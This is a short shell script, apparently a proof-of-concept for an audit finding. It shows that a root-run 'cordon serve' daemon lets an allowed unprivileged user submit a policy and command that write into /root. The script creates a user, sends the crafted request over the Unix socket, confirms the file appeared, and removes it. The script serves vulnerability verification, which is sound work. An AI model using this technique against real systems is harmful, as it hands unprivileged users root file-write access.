#!/bin/sh
# F3: a root `cordon serve` runs any client's policy with root's file rights
# on the paths the client names (no ceiling by default): uid 1001 writes /root.
C=${CORDON:-/work/wt/attack/build/cordon}
id atk >/dev/null 2>&1 || useradd -m atk
T=$(mktemp -d /tmp/atk-serve.XXXXXX); chmod 755 "$T"
"$C" serve --socket "$T/sock" --state-dir "$T/state" --allow-uid "$(id -u atk)" >"$T/log" 2>&1 &
P=$!; sleep 1
chmod 666 "$T/sock"   # the operator lets uid atk reach the socket (what --allow-uid is for)
su atk -s /bin/sh -c "curl -s --unix-socket $T/sock -X POST http://x/v1/runs -d '{\"policy\": {\"filesystem\": {\"write\": [\"/root\"]}}, \"argv\": [\"sh\",\"-c\",\"echo by-client > /root/ATK_PROOF\"]}'" >/dev/null
kill $P
ls -la /root/ATK_PROOF && echo "VULNERABLE: uid $(id -u atk) wrote /root as root" && rm -f /root/ATK_PROOF
